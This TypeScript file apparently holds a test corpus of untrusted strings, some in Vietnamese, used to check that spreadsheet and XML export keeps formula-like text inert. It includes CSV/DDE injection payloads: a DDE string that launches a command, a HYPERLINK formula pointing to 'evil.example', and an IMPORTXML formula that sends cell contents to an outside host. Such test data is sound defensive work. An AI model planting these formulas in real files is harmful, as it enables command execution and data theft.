/**
 * Untrusted text that must stay inert: formula-like strings (CSV/DDE injection), control characters, very long
 * text and characters XML cannot carry directly.
 */
export const INJECTION_CORPUS: readonly string[] = [
  "=1+1",
  '=HYPERLINK("http://evil.example","bấm vào đây")',
  "+84 912 345 678",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=cmd|' /C calc'!A0",
  "\r=1+1",
  "'=quoted",
  '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
  "Dòng 1\nDòng 2\r\nDòng 3",
  "ký tự điều khiển \u0001\u0002\u001f và _x0041_",
  "1/2",
  "00123",
  "TRUE",
  "Đạt",
  "Ứ".repeat(3900),
];
